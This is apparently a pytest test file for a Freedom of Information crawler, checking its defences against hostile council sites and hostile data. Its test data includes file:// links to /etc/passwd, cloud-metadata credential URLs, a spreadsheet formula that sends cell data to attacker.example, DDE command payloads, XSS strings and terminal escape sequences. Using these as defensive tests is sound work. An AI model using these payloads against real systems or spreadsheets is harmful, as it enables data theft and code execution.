"""Issue 15, security: the attacks an adversarial council site, document or manifest line
could make, each checked the way a user would check it.

- Fetch only what a council publishes: no file:, data:, ftp: or s3: fetch, no redirect to
  another host, no loopback/private/link-local/metadata address from a public source, caps
  on pages, links, feed events and robots.txt. In-process tests of the spiders and the two
  middlewares, plus one real crawl of a hostile site on 127.0.1.x.
- Outputs that run nothing: CSV and XLSX cells, the Markdown change report, the terminal,
  the HTML report's embedded data, file modes.
- The archive: a manifest record's sha256 never becomes a path outside DATA_DIR/raw.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import threading
import zipfile
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from scrapy import Request
from scrapy.core.downloader.handlers import DownloadHandlers
from scrapy.exceptions import StopDownload
from scrapy.http import HtmlResponse, TextResponse
from scrapy.settings import Settings
from scrapy.utils.test import get_crawler

from crawler.items import DocumentItem
from crawler.safety import (
    CrawlLimitsMiddleware,
    Refused,
    SafeFetchMiddleware,
    Site,
    addresses_of,
    site_of,
)
from crawler.spiders.alaveteli import AlaveteliSpider
from crawler.spiders.council_site import CouncilSiteSpider
from foi.archive.store import Archive, Record
from foi.mirror import serve
from foi.reference.sources import SourcesError, parse_sources
from tests.conftest import ROOT, DemoRun

SEED = (ROOT / "foi" / "samples" / "leicester-city-seed.txt").read_text("utf-8")
HEADER = (
    "authority_code,platform,url,link_selector,next_selector,content_selector,attachment_selector"
)
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
NUMBER = re.compile(r"-?\d+(\.\d+)?")
HOSTILE_LINKS = [
    "file:///etc/passwd",
    "file:///proc/self/environ",
    "data:text/plain,ATTACKER-BYTES bruising in non-mobile infants",
    "ftp://127.0.0.1:2121/response.pdf",
    "s3://bucket/key",
    "javascript:alert(1)",
]
FORMULAS = (
    '=HYPERLINK("http://attacker.example/leak?d="&A2,"Click for details")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


# -- helpers: an in-process crawler, a spider, a page -------------------------------------


def project_settings(**overrides: object) -> dict:
    settings = Settings()
    settings.setmodule("crawler.settings", priority="project")
    # No reactor in the test process: the middlewares and spiders are called directly.
    return {**dict(settings), "TWISTED_REACTOR_ENABLED": False, **overrides}


def crawler_for(spidercls=None, **overrides: object):  # type: ignore[no-untyped-def]
    return get_crawler(spidercls, project_settings(**overrides))


def fetch_middleware(resolved: dict[str, list[str]] | None = None, **overrides: object):  # type: ignore[no-untyped-def]
    """The downloader middleware, with DNS answered from `resolved` (else the machine's own
    resolver, which needs no network for numeric forms and localhost)."""
    crawler = crawler_for(**overrides)
    mw = SafeFetchMiddleware.from_crawler(crawler)

    async def resolve(host: str) -> list[str]:
        return (resolved or {}).get(host) or addresses_of(host)

    mw.resolve = resolve  # type: ignore[method-assign]
    return mw


def check(mw: SafeFetchMiddleware, request: Request) -> str | None:
    """The refusal reason, or None when the request may go."""
    try:
        asyncio.run(mw.process_request(request))
    except Refused as exc:
        return str(exc)
    return None


PUBLIC = Site("row 2 (council.example.gov.uk)", frozenset({"council.example.gov.uk"}), False)
LOCAL = Site("row 2 (127.0.0.1)", frozenset({"127.0.0.1"}), True)


def council_spider(tmp_path: Path, url: str = "https://council.example.gov.uk/foi", **overrides):  # type: ignore[no-untyped-def]
    sources = tmp_path / "sources.csv"
    sources.write_text(f"{HEADER}\nE08000010,council_site,{url},a.result,a.next,main,ul.att a\n")
    crawler = crawler_for(CouncilSiteSpider, **overrides)
    return CouncilSiteSpider.from_crawler(crawler, sources=str(sources))


def page(url: str, body: str, meta: dict) -> HtmlResponse:
    html = f"<html><head><title>FOI</title></head><body><main>{body}</main></body></html>"
    return HtmlResponse(url, body=html.encode(), encoding="utf-8", request=Request(url, meta=meta))


def attachments_html(links: list[str]) -> str:
    return "<ul class='att'>" + "".join(f"<li><a href='{u}'>file</a></li>" for u in links) + "</ul>"


# -- 1. only http(s) -------------------------------------------------------------------------


def test_scrapy_file_data_ftp_s3_handlers_are_off():
    crawler = crawler_for()
    handlers = crawler.settings.getwithbase("DOWNLOAD_HANDLERS")
    assert {s: handlers[s] for s in ("file", "data", "ftp", "s3")} == dict.fromkeys(
        ("file", "data", "ftp", "s3")
    )
    assert handlers["http"] and handlers["https"]
    loaded = DownloadHandlers(crawler)
    assert all(loaded._get_handler(s) is None for s in ("file", "data", "ftp", "s3"))


def test_attachment_links_that_are_not_http_are_never_requested(tmp_path):
    spider = council_spider(tmp_path)
    source = spider.sources[0]
    url = "https://council.example.gov.uk/foi/bruising.html"
    links = [*HOSTILE_LINKS, "mailto:foi@council.example.gov.uk", "/foi/files/response.pdf"]
    body = f"<pre>{SEED}</pre>" + attachments_html(links)
    response = page(url, body, {"foi": {"authority_code": "E08000010"}, "source": source})
    out = list(spider.detail(response))
    requests = [o for o in out if isinstance(o, Request)]
    assert [r.url for r in requests] == ["https://council.example.gov.uk/foi/files/response.pdf"]
    stats = spider.crawler.stats
    assert stats.get_value("foi/rejected/not an http(s) link") == len(links) - 1
    items = [o for o in out if isinstance(o, DocumentItem)]
    assert [i.url for i in items] == [url]  # the page kept; nothing else archived


def test_pagination_to_a_local_file_is_not_followed(tmp_path):
    spider = council_spider(tmp_path)
    url = "https://council.example.gov.uk/foi?page=1"
    meta = {"foi": {"authority_code": "E08000010"}, "source": spider.sources[0]}
    body = "<a class='result' href='file:///etc/passwd'>r</a><a class='next' href='file:///etc/shadow'>Next</a>"
    assert list(spider.listing(page(url, body, meta))) == []
    assert spider.crawler.stats.get_value("foi/rejected/not an http(s) link") == 2


def test_alaveteli_attachment_link_to_a_local_file_is_not_followed():
    crawler = crawler_for(AlaveteliSpider)
    spider = AlaveteliSpider.from_crawler(crawler)
    url = "https://www.whatdotheyknow.com/request/bruising_in_non_mobile_infants"
    message = (
        f"<div class='correspondence' id='incoming-1'><p>{SEED}</p>"
        "<a href='file:///etc/passwd/attach/1'>a</a>"
        "<a href='/request/1/response/2/attach/3/response.pdf'>b</a></div>"
    )
    meta = {"foi": {"authority_code": "E06000016", "title": "Bruising in non-mobile infants"}}
    out = list(spider.thread(page(url, message, meta)))
    urls = [o.url for o in out if isinstance(o, Request)]
    assert urls == ["https://www.whatdotheyknow.com/request/1/response/2/attach/3/response.pdf"]


@pytest.mark.parametrize("url", [*HOSTILE_LINKS[:-1], "about:blank", "gopher://127.0.0.1/"])
def test_middleware_refuses_every_scheme_but_http(url):
    # (javascript: cannot even be a Scrapy Request: the spiders refuse it before one is made.)
    reason = check(fetch_middleware(), Request(url, meta={"foi_site": PUBLIC}))
    assert reason and reason.startswith("refused: not an http(s) address")


# -- 1. redirects stay on the source's site ---------------------------------------------


def redirected(url: str, origin: str, site: Site) -> Request:
    return Request(url, meta={"foi_site": site, "redirect_urls": [origin]})


def test_redirect_to_another_host_is_refused():
    origin = "https://council.example.gov.uk/foi/response.pdf"
    reason = check(fetch_middleware(), redirected("https://93.184.216.34/r.pdf", origin, PUBLIC))
    assert reason == "refused: redirect to another site (93.184.216.34)"


def test_redirect_within_the_site_its_www_twin_or_an_allowed_host_is_followed(registry):
    rows = parse_sources(
        f"{HEADER},allowed_hosts\n"
        "E08000010,council_site,https://council.example.gov.uk/foi,a,,,,docs.example.org\n",
        registry,
    )
    site = site_of(rows[0])
    mw = fetch_middleware({h: ["93.184.216.34"] for h in site.hosts | {"cdn.example.net"}})
    origin = "https://council.example.gov.uk/foi/r.pdf"
    for target in (
        "https://council.example.gov.uk/files/r.pdf",
        "http://www.council.example.gov.uk/files/r.pdf",
        "https://docs.example.org/r.pdf",
    ):
        assert check(mw, redirected(target, origin, site)) is None, target
    # The host a link pointed at may redirect within itself (an attachment on a document store).
    cdn = "https://cdn.example.net/a"
    assert check(mw, redirected("https://cdn.example.net/b", cdn, site)) is None


def test_bad_allowed_hosts_value_is_refused_with_its_row(registry):
    with pytest.raises(SourcesError, match="row 2: allowed_hosts 'http://x/' is not a host"):
        parse_sources(
            f"{HEADER},allowed_hosts\nE08000010,council_site,https://c.example/,a,,,,http://x/\n",
            registry,
        )


# -- 1. no internal address -----------------------------------------------------------------

INTERNAL = {
    "http://127.0.0.1:8080/admin": "loopback",
    "http://127.1.2.3/": "loopback",
    "http://[::1]/": "loopback",
    "http://[::ffff:127.0.0.1]/": "loopback",
    "http://[::ffff:169.254.169.254]/latest/meta-data/": "cloud metadata",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/": "cloud metadata",
    "http://[fd00:ec2::254]/latest/meta-data/": "cloud metadata",
    "http://168.63.129.16/machine": "cloud metadata",
    "http://100.100.100.200/latest/meta-data/": "cloud metadata",
    "http://metadata.google.internal/computeMetadata/v1/": "cloud metadata",
    "http://10.0.0.5/": "private",
    "http://172.16.3.4/": "private",
    "http://192.168.1.1/": "private",
    "http://[fd12:3456::1]/": "private",
    "http://169.254.1.1/": "link-local",
    "http://[fe80::1]/": "link-local",
    "http://224.0.0.1/": "multicast",
    "http://[ff02::1]/": "multicast",
    "http://0.0.0.0/": "unspecified",
    "http://240.0.0.1/": "reserved",
    "http://100.64.0.1/": "not a public",
    "http://[2002:7f00:1::]/": "loopback",  # 6to4 carrying 127.0.0.1
    "http://2130706433/": "loopback",  # 127.0.0.1 written as one number
    "http://0x7f.1/": "loopback",
    "http://localhost:8000/": "loopback",
}


@pytest.mark.parametrize("url", INTERNAL)
def test_public_source_never_reaches_an_internal_address(url):
    reason = check(fetch_middleware(), Request(url, meta={"foi_site": PUBLIC}))
    assert reason and reason.startswith(f"refused: {INTERNAL[url]}"), reason


@pytest.mark.parametrize(
    "answers",
    [
        ["10.1.2.3"],
        ["93.184.216.34", "::1"],
        ["93.184.216.34", "::ffff:10.0.0.1"],
        ["169.254.169.254"],
    ],
)
def test_host_name_resolving_to_an_internal_address_is_refused(answers):
    mw = fetch_middleware({"intranet.council.example.gov.uk": answers})
    request = Request("https://intranet.council.example.gov.uk/x", meta={"foi_site": PUBLIC})
    reason = check(mw, request)
    assert reason and "intranet.council.example.gov.uk is" in reason


def test_redirect_from_a_public_page_to_an_internal_address_is_refused():
    mw = fetch_middleware({"evil.example": ["127.0.0.1"]})
    request = redirected("http://169.254.169.254/latest/meta-data/", "http://evil.example/", PUBLIC)
    assert check(mw, request).startswith("refused: ")  # type: ignore[union-attr]
    hop = redirected("http://evil.example/next", "http://evil.example/", PUBLIC)
    assert check(mw, hop) == "refused: loopback address (evil.example is 127.0.0.1)"


def test_public_addresses_are_fetched():
    mw = fetch_middleware({"www.whatdotheyknow.com": ["46.43.39.108", "2001:41c8:20:60a::108"]})
    for url in ("https://www.whatdotheyknow.com/request/x", "http://93.184.216.34/"):
        assert check(mw, Request(url, meta={"foi_site": PUBLIC})) is None


def test_local_source_may_reach_loopback_and_nothing_else_internal():
    mw = fetch_middleware()
    for url in ("http://127.0.0.1:8000/log", "http://127.0.1.7:8000/x"):
        assert check(mw, Request(url, meta={"foi_site": LOCAL})) is None
    for url in ("http://169.254.169.254/", "http://10.0.0.5/", "http://192.168.0.1/"):
        assert check(mw, Request(url, meta={"foi_site": LOCAL})), url


def test_sources_row_is_local_only_when_its_own_host_is_loopback(registry):
    rows = parse_sources(
        f"{HEADER}\nE08000010,council_site,http://127.0.1.4:8000/log,a,,,\n"
        "E08000001,council_site,https://council.example.gov.uk/log,a,,,\n",
        registry,
    )
    assert [site_of(r).local for r in rows] == [True, False]


# -- 1. caps ----------------------------------------------------------------------------------


def test_robots_txt_is_read_only_up_to_its_cap():
    mw = fetch_middleware(FOI_MAX_ROBOTS_BYTES=1000)
    robots = Request("http://127.0.0.1:9/robots.txt", meta={"dont_obey_robotstxt": True})
    assert check(mw, robots) is None
    mw.bytes_received(b"x" * 600, robots, None)
    with pytest.raises(StopDownload) as stop:
        mw.bytes_received(b"x" * 600, robots, None)
    assert stop.value.fail is False  # the part read is used, as Google does
    response = TextResponse(robots.url, body=b"Disallow: /p/\n" * 1000, request=robots)
    assert len(mw.process_response(robots, response).body) == 1000
    page_request = Request("http://127.0.0.1:9/page", meta={"foi_site": LOCAL})
    assert check(mw, page_request) is None
    assert "foi_robots_cap" not in page_request.meta


def limits(**caps: int) -> CrawlLimitsMiddleware:
    return CrawlLimitsMiddleware.from_crawler(crawler_for(**caps))


def test_links_followed_per_page_are_capped():
    mw = limits(FOI_MAX_LINKS_PER_PAGE=25, FOI_MAX_PAGES_PER_SOURCE=0)
    listing = page("http://127.0.0.1:9/log", "", {"foi_site": LOCAL})
    links = (Request(f"http://127.0.0.1:9/d/{n}.html") for n in range(5_000))
    kept = list(mw.process_spider_output(listing, links))
    assert len(kept) == 25 and all(r.meta["foi_site"] == LOCAL for r in kept)
    assert mw.crawler.stats.get_value("foi/capped/links per page") == 5_000 - 25


def test_pages_per_source_are_capped_so_endless_pagination_ends():
    mw = limits(FOI_MAX_LINKS_PER_PAGE=0, FOI_MAX_PAGES_PER_SOURCE=10)
    other = Site("row 3 (127.0.0.2)", frozenset({"127.0.0.2"}), True)
    fetched = 0
    for n in range(1000):  # each listing page links the next, for ever
        listing = page(f"http://127.0.0.1:9/log?page={n}", "", {"foi_site": LOCAL})
        nxt = Request(f"http://127.0.0.1:9/log?page={n + 1}")
        fetched += len(list(mw.process_spider_output(listing, iter([nxt]))))
    assert fetched == 10
    # Another sources row has its own budget.
    start = Request("http://127.0.0.2:9/log", meta={"foi_site": other})
    assert list(mw.process_spider_output(None, iter([start]))) == [start]


def test_events_per_alaveteli_feed_page_are_capped():
    crawler = crawler_for(AlaveteliSpider, FOI_MAX_FEED_EVENTS=5)
    spider = AlaveteliSpider.from_crawler(crawler)
    feed = "https://www.whatdotheyknow.com/feed/search/bruising.json"
    events = [{"info_request": {"url_title": f"request_{n}"}} for n in range(30_000)]
    meta = {"base": "https://www.whatdotheyknow.com", "feed": feed, "page": 1}
    response = TextResponse(
        feed, body=json.dumps(events).encode(), encoding="utf-8", request=Request(feed, meta=meta)
    )
    requests = list(spider.feed(response))
    assert len(requests) == 5 + 1  # five requests' JSON, then the next feed page
    assert crawler.stats.get_value("foi/capped/events per feed page") == 30_000 - 5


# -- 1. a real crawl of a hostile council site ----------------------------------------------


def listener() -> tuple[socket.socket, list[tuple]]:
    """A TCP port that records who connects (an FTP server the crawler must not reach)."""
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    sock.listen()
    sock.settimeout(0.2)
    seen: list[tuple] = []

    def accept() -> None:
        while sock.fileno() != -1:
            try:
                conn, addr = sock.accept()
            except (TimeoutError, OSError):
                continue
            seen.append(addr)
            conn.close()

    threading.Thread(target=accept, daemon=True).start()
    return sock, seen


def build_hostile_sites(root: Path, secret: Path, ftp_port: int) -> None:
    council = root / "council"
    (council / "foi" / "files").mkdir(parents=True)
    (council / "robots.txt").write_text("User-agent: *\nDisallow: /private/\n")
    (council / "foi" / "files" / "response.txt").write_text(SEED)
    links = [
        f"file://{secret}",
        "file:///etc/passwd",
        "data:text/plain;base64,QVRUQUNLRVItQllURVMgYnJ1aXNpbmcgbm9uLW1vYmlsZQ==",
        f"ftp://127.0.0.1:{ftp_port}/response.pdf",
        "/foi/files/moved.pdf",
        "/foi/files/to-file.pdf",
        # Only addresses that stay on this machine even if the check regressed (the metadata
        # and private ones are checked in-process above): 0.0.0.0 means "this host".
        "http://0.0.0.0:9/latest/meta-data/",
        "/foi/files/response.txt",
    ]
    html = (
        "<html><head><title>Bruising in non-mobile infants</title></head><body><main>"
        f"<pre>{SEED}</pre>{attachments_html(links)}</main></body></html>"
    )
    (council / "foi" / "in-page.html").write_text(html)
    (council / "log.html").write_text(
        "<html><body><a class='result' href='/foi/in-page.html'>r</a>"
        "<a class='next' href='file:///etc/passwd'>Next</a></body></html>"
    )
    (root / "endless").mkdir()
    # A 300 KB robots.txt: read whole, its last line would forbid everything; only the first
    # 20 KB (FOI_MAX_ROBOTS_BYTES in the crawl below) count.
    big = root / "bigrobots"
    (big / "foi").mkdir(parents=True)
    (big / "robots.txt").write_text(
        "User-agent: *\nDisallow: /private/\n" + "# padding\n" * 30_000 + "Disallow: /\n"
    )
    (big / "log.html").write_text(
        "<html><body><a class='result' href='/foi/answer.html'>r</a>"
        "<a class='result' href='/private/answers.html'>r</a></body></html>"
    )
    (big / "foi" / "answer.html").write_text(
        f"<html><head><title>FOI</title></head><body><main><pre>{SEED}</pre></main></body></html>"
    )
    internal = root / "internal"
    internal.mkdir()
    (internal / "secret.txt").write_text("INTERNAL-SECRET " + SEED)


def route_sites(root: Path, bases: dict[str, str]) -> None:
    council_routes = {
        "/log": {"file": "log.html"},
        "/foi/files/moved.pdf": {"redirect": f"{bases['internal']}/secret.txt"},
        "/foi/files/to-file.pdf": {"redirect": "file:///etc/passwd"},
    }
    (root / "council" / "routes.json").write_text(json.dumps(council_routes))
    (root / "bigrobots" / "routes.json").write_text(json.dumps({"/log": {"file": "log.html"}}))
    # Endless pagination: every page links the next.
    endless_routes = {}
    for n in range(1, 500):
        (root / "endless" / f"p{n}.html").write_text(
            f"<html><body><a class='next' href='/log?page={n + 1}'>Next</a></body></html>"
        )
        endless_routes[f"/log?page={n}"] = {"file": f"p{n}.html"}
    (root / "endless" / "routes.json").write_text(json.dumps(endless_routes))


CRAWL = (
    "import json, sys\n"
    "from pathlib import Path\n"
    "from crawler.run import crawl\n"
    "stats = crawl(Path(sys.argv[1]), sources=Path(sys.argv[2]), platforms=['council_site'])\n"
    "Path(sys.argv[3]).write_text(json.dumps(stats['council_site'], default=str))\n"
)


@pytest.fixture(scope="module")
def hostile_crawl(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    secret = root / "secret.txt"
    secret.write_text("CRAWLER-HOST-SECRET token=abc123")
    ftp, connections = listener()
    sites = root / "sites"
    build_hostile_sites(sites, secret, ftp.getsockname()[1])
    data = root / "data"
    with serve(sites, distinct_hosts=True) as mirror:
        route_sites(sites, mirror.bases)
        sources = root / "sources.csv"
        sources.write_text(
            f"{HEADER}\n"
            f"E08000010,council_site,{mirror.bases['council']}/log,a.result,a.next,main,ul.att a\n"
            f"E08000001,council_site,{mirror.bases['endless']}/log?page=1,a.result,a.next,main,\n"
            f"E08000002,council_site,{mirror.bases['bigrobots']}/log,a.result,,main,\n"
        )
        env = {
            **os.environ,
            "FOI_DOWNLOAD_DELAY": "0",
            "FOI_DOWNLOAD_TIMEOUT": "2",
            "FOI_RETRY_TIMES": "0",
            "FOI_MAX_PAGES_PER_SOURCE": "20",
            "FOI_MAX_ROBOTS_BYTES": "20000",
        }
        out = root / "stats.json"
        proc = subprocess.run(
            [sys.executable, "-c", CRAWL, str(data), str(sources), str(out)],
            env=env, capture_output=True, text=True, timeout=120, cwd=ROOT,
        )  # fmt: skip
        assert proc.returncode == 0, proc.stderr[-3000:]
        site_stats = {name: s for name, s in mirror.stats.items()}
    ftp.close()
    archive = Archive(data)
    return {
        "records": list(archive.records()),
        "raw": [p.read_bytes() for p in (data / "raw").rglob("*") if p.is_file()],
        "stats": json.loads(out.read_text()),
        "sites": site_stats,
        "ftp": connections,
        "log": proc.stderr,
    }


def reasons(crawl: dict, suffix: str) -> list[str | None]:
    return [r.reason for r in crawl["records"] if r.location.endswith(suffix)]


def test_crawl_keeps_the_council_response(hostile_crawl):
    ok = {r.location.rsplit("/", 1)[-1] for r in hostile_crawl["records"] if r.status == "ok"}
    assert ok == {"in-page.html", "response.txt", "answer.html"}


def test_crawl_archives_no_local_file_data_url_or_ftp(hostile_crawl):
    schemes = {r.location.split(":", 1)[0] for r in hostile_crawl["records"]}
    assert schemes == {"http"}
    for body in hostile_crawl["raw"]:
        assert b"CRAWLER-HOST-SECRET" not in body and b"root:x:0:0" not in body
        assert b"ATTACKER-BYTES" not in body and b"INTERNAL-SECRET" not in body
    assert hostile_crawl["ftp"] == []  # never even connected
    stats = hostile_crawl["stats"]
    assert stats["foi/rejected/not an http(s) link"] == 5  # 4 attachments and the next link


def test_crawl_never_follows_a_redirect_to_another_host(hostile_crawl):
    internal = hostile_crawl["sites"]["internal"]
    assert internal.requests == 0  # not the page, not its robots.txt
    (reason,) = reasons(hostile_crawl, "/foi/files/moved.pdf")
    assert reason is not None and reason.startswith("refused: redirect to another site (127.0.1.")
    assert reasons(hostile_crawl, "/foi/files/to-file.pdf") == ["HTTP 302"]


def test_crawl_never_reaches_an_internal_address(hostile_crawl):
    assert reasons(hostile_crawl, "/latest/meta-data/") == [
        "refused: unspecified address (0.0.0.0)"
    ]


def test_crawl_reads_only_the_start_of_a_huge_robots_txt(hostile_crawl):
    assert hostile_crawl["stats"]["foi/capped/robots.txt bytes"] == 1
    big = hostile_crawl["sites"]["bigrobots"]
    assert "/foi/answer.html" in big.paths  # the last line, past the cap, was never read
    assert not [p for p in big.paths if p.startswith("/private/")]  # the first rule holds
    assert reasons(hostile_crawl, "/private/answers.html") == ["forbidden by robots.txt"]


def test_crawl_stops_endless_pagination(hostile_crawl):
    endless = hostile_crawl["sites"]["endless"]
    assert endless.requests <= 20 + 1  # the cap, and robots.txt
    assert hostile_crawl["stats"]["foi/capped/pages per source"] >= 1


# -- 2. outputs that run nothing ---------------------------------------------------------------


def run_foi(*args: str, **kwargs) -> subprocess.CompletedProcess[str]:  # type: ignore[no-untyped-def]
    return subprocess.run(
        [sys.executable, "-m", "foi.cli", *args],
        capture_output=True, text=True, timeout=300, cwd=ROOT, **kwargs,
    )  # fmt: skip


def plant(path: Path, column: str, row: int, value: object) -> None:
    """Put a council's hostile text into one cell of a built table."""
    table = pq.read_table(path)
    rows = table.to_pylist()
    rows[row][column] = value
    pq.write_table(pa.Table.from_pylist(rows, schema=table.schema), path)


@pytest.fixture(scope="module")
def planted(tmp_path_factory, demo_run: DemoRun) -> dict:
    data = demo_run.copy(tmp_path_factory.mktemp("planted") / "data")
    dataset = data / "dataset"
    responses = dataset / "responses.parquet"
    code = pq.read_table(responses).to_pylist()[0]["authority_code"]
    plant(responses, "authority_name", 0, FORMULAS[0])
    plant(responses, "partnership", 0, FORMULAS[1])
    plant(responses, "reference", 0, FORMULAS[2])
    plant(responses, "review_date", 0, FORMULAS[4])
    plant(responses, "age_threshold_months", 0, -6)
    facts = pq.read_table(dataset / "facts.parquet").to_pylist()
    n = next(
        i
        for i, f in enumerate(facts)
        if f["authority_code"] == code and f["field"] == "review_held"
    )
    plant(dataset / "facts.parquet", "evidence", n, FORMULAS[3])
    s47 = next(i for i, f in enumerate(facts) if f["field"] == "s47_all_cases" and f["evidence"])
    plant(
        dataset / "facts.parquet", "evidence", s47, "Yes. <!--<script>document.title='x'</script>"
    )
    plant(dataset / "answers.parquet", "answer_text", 0, FORMULAS[5])
    # Unquoted, a carriage return inside a cell starts a new row whose first cell runs.
    plant(dataset / "answers.parquet", "answer_text", 1, "See below.\r=1+1")
    return {"data": data, "dataset": dataset, "code": code}


def formula_cells(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run (a plain number such as -6 is a number)."""
    return [
        c
        for row in rows
        for c in row
        if c.startswith(("=", "+", "-", "@", "\t", "\r")) and not NUMBER.fullmatch(c)
    ]


def test_csv_export_neutralises_formulas(planted, tmp_path):
    from foi.views.queries import export

    files = export(planted["dataset"], "csv", tmp_path / "csv")
    for path in files:
        with open(path, newline="", encoding="utf-8") as fh:
            rows = list(csv.reader(fh))
        assert formula_cells(rows) == [], path.name
    responses = pd.read_csv(tmp_path / "csv" / "responses.csv", dtype=str, keep_default_na=False)
    row = responses[responses["authority_code"] == planted["code"]].iloc[0]
    assert row["authority_name"] == "'" + FORMULAS[0]
    assert row["partnership"] == "'" + FORMULAS[1] and row["reference"] == "'" + FORMULAS[2]
    assert row["review_date"] == "'" + FORMULAS[4]
    assert row["age_threshold_months"] == "-6"  # a negative number is a number, not a formula
    facts = pd.read_csv(tmp_path / "csv" / "facts.csv", dtype=str, keep_default_na=False)
    assert ("'" + FORMULAS[3]) in set(facts["evidence"])
    answers = pd.read_csv(tmp_path / "csv" / "answers.csv", dtype=str, keep_default_na=False)
    assert ("'" + FORMULAS[5]) in set(answers["answer_text"])


def test_filter_csv_neutralises_formulas(planted, tmp_path, capsys):
    from foi.cli import main

    out = tmp_path / "f.csv"
    assert main(["filter", "--data-dir", str(planted["data"]), "--csv", str(out)]) == 0
    with open(out, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert formula_cells(rows) == []
    assert any(c == "'" + FORMULAS[0] for row in rows for c in row)
    assert any(c == "'" + FORMULAS[3] for row in rows for c in row)


def test_xlsx_export_holds_values_never_formulas(planted, tmp_path):
    import openpyxl

    from foi.views.queries import export

    (book,) = export(planted["dataset"], "xlsx", tmp_path / "x.xlsx")
    with zipfile.ZipFile(book) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        xml = "".join(z.read(n).decode("utf-8") for n in sheets)
    assert sheets and not re.search(r"<f[ >/]", xml)  # no formula anywhere
    ws = openpyxl.load_workbook(book)["responses"]
    header = [c.value for c in ws[1]]
    code = header.index("authority_code")  # (after `synthetic` where the data is the demo's)
    row = next(r for r in ws.iter_rows(min_row=2) if r[code].value == planted["code"])
    cell = dict(zip(header, row, strict=True))
    assert cell["authority_name"].value == "'" + FORMULAS[0]
    assert cell["authority_name"].data_type == "s"
    assert (
        cell["age_threshold_months"].value == -6 and cell["age_threshold_months"].data_type == "n"
    )


def test_change_report_escapes_markdown_and_html():
    from foi.dataset.changes import markdown

    hostile = {
        "authority_name": "<script>alert(1)</script>",
        "evidence": "See <img src=x onerror=alert(1)> and [the policy](javascript:alert(1)) "
        "![x](http://attacker.example/pixel.png) **bold** `code` | cell | ~~gone~~",
        "url": "javascript:alert(document.cookie)",
    }
    rows = [
        {"kind": "first_response", "authority_code": "E06000016", "field": "outcome",
         "old_value": None, "new_value": "<b>answered</b>", **hostile},
        {"kind": "fact_changed", "authority_code": "E06000016", "field": "s47_all_cases",
         "old_value": "no", "new_value": "yes\n\n# Injected heading", **hostile},
        {"kind": "answer_changed", "authority_code": "E06000016", "field": "Q1", "old_value": "",
         "new_value": "<iframe src=javascript:alert(1)></iframe> [x](javascript:alert(1))", **hostile},
        {"kind": "document_disappeared", "authority_code": "E06000016", "field": None,
         "old_value": None, "new_value": "HTTP 404", **hostile,
         "url": "https://council.example.gov.uk/foi/x.pdf"},
    ]  # fmt: skip
    text = markdown(rows, pd.Timestamp("2026-01-01", tz="UTC"))
    for live in ("<script", "<img", "<iframe", "<b>", "javascript:alert(document.cookie)>"):
        assert live not in text
    assert not re.search(r"(?<!\\)\]\(", text)  # no link or image syntax survives
    assert not re.search(r"(?<!\\)(\*\*bold|`code|~~gone)", text)
    assert "\n# Injected" not in text  # a value never starts a new block
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text  # shown, as text
    assert "<https://council.example.gov.uk/foi/x.pdf>" in text  # a real link stays a link
    assert "`s47_all_cases`: no → yes" in text


def test_terminal_never_receives_control_characters(tmp_path):
    hostile = SEED.replace(
        "There was no formal review",
        "\x1b]0;pwned\x07\x1b[2J\x1b[31mThere\x9b1m was no\x08\x08 formal\r review",
        1,
    )
    name = tmp_path / "reply\x1b[31m\x1b]8;;attacker.example\x07\x9b2J.txt"
    name.write_text(hostile)
    data = tmp_path / "data"
    outputs = [
        run_foi("parse", str(name)),
        run_foi("parse", str(name), "--json"),
        run_foi("import", str(name), "--authority", "E06000016", "--data-dir", str(data)),
        run_foi("parse", str(tmp_path / "missing\x1b[2J.txt")),
    ]
    assert outputs[0].returncode == 0 and "Leicester" in outputs[0].stdout
    assert json.loads(outputs[1].stdout)["answers"]
    for proc in outputs:
        assert CONTROL.findall(proc.stdout + proc.stderr) == []


def test_report_data_cannot_end_its_script_element(planted, tmp_path):
    from foi.views.report import build_report

    out = build_report(planted["dataset"], tmp_path / "report.html", "Report")
    html = out.read_text("utf-8")
    data = html.split('<script type="application/json" id="rows">', 1)[1].split("</script>", 1)[0]
    assert "<" not in data and ">" not in data  # no </script>, <!--, <script inside
    rows = json.loads(data)
    assert len(rows) == pq.read_metadata(planted["dataset"] / "responses.parquet").num_rows
    assert any("<!--<script>" in (r["s47_all_cases_evidence"] or "") for r in rows)
    assert html.count("<script") == 3  # the two data elements and the page's own


CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")


@pytest.mark.skipif(CHROMIUM is None, reason="needs Debian's chromium (.ci/run installs it)")
def test_report_table_survives_a_planted_comment_in_chromium(planted, tmp_path):
    from foi.views.report import build_report
    from tests.test_report import dom, rows

    out = build_report(planted["dataset"], tmp_path / "report.html", "Report")
    tree = dom(out)
    expected = pq.read_metadata(planted["dataset"] / "responses.parquet").num_rows
    assert len(rows(tree)) == expected
    assert tree.findtext(".//title") == "Report"  # the planted script never ran
    assert any("<!--<script>" in " ".join(r) for r in rows(tree))  # shown as text


def test_files_are_created_with_the_users_umask(planted, tmp_path):
    from foi.archive.atomic import atomic_write_text
    from foi.views.queries import export

    old = os.umask(0o022)
    try:
        atomic_write_text(tmp_path / "a.txt", "x")
        (csv_file, *_) = export(planted["dataset"], "csv", tmp_path / "csv")
        os.umask(0o007)
        atomic_write_text(tmp_path / "b.txt", "x")
    finally:
        os.umask(old)
    assert (tmp_path / "a.txt").stat().st_mode & 0o777 == 0o644
    assert csv_file.stat().st_mode & 0o777 == 0o644
    assert (tmp_path / "b.txt").stat().st_mode & 0o777 == 0o660
    assert not list(tmp_path.glob(".*.tmp"))


# -- 3. the archive ---------------------------------------------------------------------------


def test_manifest_sha256_never_becomes_a_path(tmp_path, caplog):
    archive = Archive(tmp_path / "data")
    good = archive.add(
